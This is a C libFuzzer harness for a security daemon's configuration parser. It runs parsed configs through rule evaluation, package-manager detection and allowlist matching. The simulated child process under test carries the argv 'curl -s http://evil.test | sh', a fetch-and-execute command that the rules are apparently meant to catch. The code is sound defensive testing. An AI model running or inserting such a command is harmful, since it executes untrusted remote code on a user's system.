// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * The configuration file (user/config.c), through config_parse: the same
 * parser config_load runs on a file's bytes for run, exec, check-config
 * and a reload, its errors printed. A configuration it accepts is then
 * used as the daemon uses one: its patterns give the kernel's anchors,
 * the rules judge a package manager's child, the allowlist a destination,
 * the settings a reload would keep are compared with the built-in ones.
 */
#include "fuzz.h"

static void use(struct config *c)
{
	static const char argv[] = "sh\0-c\0curl -s http://evil.test | sh";
	struct config *builtin;
	struct ipaddr a = { .family = 2, .bytes = { 192, 0, 2, 1 } };
	struct image *img = image_new();
	struct proc p = { .pid = 10, .ppid = 1, .start = 1, .refs = 1, .img = img };
	struct verdict v;
	char anchor[DS_ANCHOR_LEN];
	size_t i;

	if (!img || image_set_argv(img, argv, sizeof(argv)))
		abort();
	img->exe = strdup("/usr/bin/dash");
	img->filename = strdup("/bin/sh");
	img->name = strdup("dash");
	img->cwd = strdup("/tmp/proj/node_modules/x");
	memcpy(img->comm, "sh", 3);
	rules_eval(c, &p, &v);
	rules_package_manager(c, &p);
	allow_match(c->allow, c->nallow, "registry.npmjs.org", &a, 443);
	for (i = 0; i < c->watch_pipeline.n; i++)
		file_anchor(c->watch_pipeline.v[i], anchor, sizeof(anchor));
	for (i = 0; i < c->watch_build.n; i++)
		file_anchor(c->watch_build.v[i], anchor, sizeof(anchor));
	image_put(img);
	if (config_load(NULL, &builtin, NULL))
		abort();
	reload_keep_restart_settings(c, builtin);
	config_free(builtin);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static bool quiet;
	struct config *c = NULL;

	if (!quiet) {
		fuzz_quiet();
		quiet = true;
	}
	if (config_parse("fuzz.json", (const char *)data, size, &c, fuzz_devnull()) == 0) {
		use(c);
		config_free(c);
	}
	return 0;
}
